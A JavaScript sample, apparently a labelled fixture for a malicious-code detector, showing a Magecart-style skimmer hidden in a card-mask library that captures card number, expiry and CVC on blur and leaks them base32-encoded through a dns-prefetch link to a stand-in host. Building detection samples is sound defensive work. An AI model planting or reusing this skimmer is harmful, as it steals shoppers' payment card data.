// source: the DNS-prefetch skimmers (Magecart variants that leak cards through `<link rel=dns-prefetch>` host names,
// reported 2020-2024): a card-mask library's blur listener keeps what was typed into the card fields and puts it,
// base32-encoded, into the labels of a host name the page prefetches.
// expect: malicious
var card = {};
var ALPHA = "abcdefghijklmnopqrstuvwxyz234567";
function b32(s) {
  for (var out = "", bits = 0, v = 0, i = 0; i < s.length; i++) {
    for (v = (v << 8) | s.charCodeAt(i), bits += 8; bits >= 5; bits -= 5) out += ALPHA[(v >>> (bits - 5)) & 31];
  }
  return out;
}
function leak() {
  var labels = b32([card.number, card.exp, card.cvc, location.hostname].join("|")).match(/.{1,56}/g) || [];
  var link = document.createElement("link");
  link.rel = "dns-prefetch";
  link.href = "//" + labels.join(".") + ".img-metrics.invalid";
  document.head.appendChild(link);
}
function onBlur(e) {
  var field = e.target;
  var name = (field.getAttribute("autocomplete") || field.name || "").toLowerCase();
  if (/cc-number|cardnumber/.test(name)) card.number = field.value;
  else if (/cc-exp/.test(name)) card.exp = field.value;
  else if (/cc-csc|cvc|cvv/.test(name)) { card.cvc = field.value; leak(); }
}
export function attach(form) {
  form.addEventListener("blur", onBlur, true);
}
